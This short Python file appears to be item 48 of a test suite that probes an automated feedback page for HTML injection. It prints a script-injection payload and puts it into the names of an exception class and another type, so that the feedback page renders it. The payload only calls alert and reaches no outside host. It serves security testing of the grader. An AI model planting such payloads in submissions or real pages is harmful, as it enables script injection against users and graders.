# attack: 48
# title: HTML in the name and text of an exception and of a type
# success: it is active in the feedback page
# kind: function
# naive: page
TEXT = "<img src=x onerror=alert(1)><script>alert(1)</script>"
print(TEXT)
Named = type(TEXT, (Exception,), {})
CALLS = []


def hidden_delta(*args):
    CALLS.append(1)
    if len(CALLS) % 2:
        raise Named(TEXT)
    return type(TEXT, (), {})()
